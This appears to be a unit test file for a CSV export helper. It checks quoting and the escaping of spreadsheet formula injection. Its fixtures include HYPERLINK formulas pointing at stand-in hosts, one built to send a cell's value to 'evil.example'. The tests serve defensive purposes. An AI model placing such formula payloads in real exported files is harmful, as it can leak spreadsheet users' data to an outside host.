import { toCsv } from './toCsv';

describe('toCsv', () => {
  it('writes a header, quotes what needs quoting and escapes formulas', async () => {
    const csv = await toCsv(
      [
        { title: 'Summit, "2026"', note: '=HYPERLINK("http://evil")', n: 3 },
        { title: 'Plain', note: null, n: -1 },
      ],
      [
        { header: 'Title', value: (r) => r.title },
        { header: 'Note', value: (r) => r.note },
        { header: 'Count', value: (r) => r.n },
      ],
    );
    const lines = csv.split('\r\n');
    expect(lines[0]).toBe('Title,Note,Count');
    expect(lines[1]).toBe(`"Summit, ""2026""","'=HYPERLINK(""http://evil"")",3`);
    expect(lines[2]).toBe('Plain,,-1');
  });

  it.each(['=1+1', '+1+1', '-1+1', '@SUM(A1)'])('escapes a text cell starting like a formula: %s', async (value) => {
    const csv = await toCsv([{ value }], [{ header: 'Value', value: (r) => r.value }]);
    expect(csv.split('\r\n')[1]).toBe(`"'${value}"`);
  });

  it.each([
    ['a title with a line break', '=HYPERLINK("http://evil.example/?x="&A1,"Click")\n'],
    ['a multi-line description', '=1+1\nmore'],
    ['a location ending in a line break', '@SUM(1+1)\n'],
    ['a cell starting with a tab', '\t=1+1\nmore'],
    ['a cell starting with a carriage return', '\r=1+1'],
  ])('neutralises %s', async (_name, value) => {
    const csv = await toCsv([{ value }], [{ header: 'Value', value: (r) => r.value }]);
    const cell = csv.slice('Value\r\n'.length);
    // Quoted (it holds a line break or starts with a special character) and starting with an apostrophe.
    expect(cell.startsWith(`"'`)).toBe(true);
    expect(cell).toBe(`"'${value.replace(/"/g, '""')}"`);
  });
});
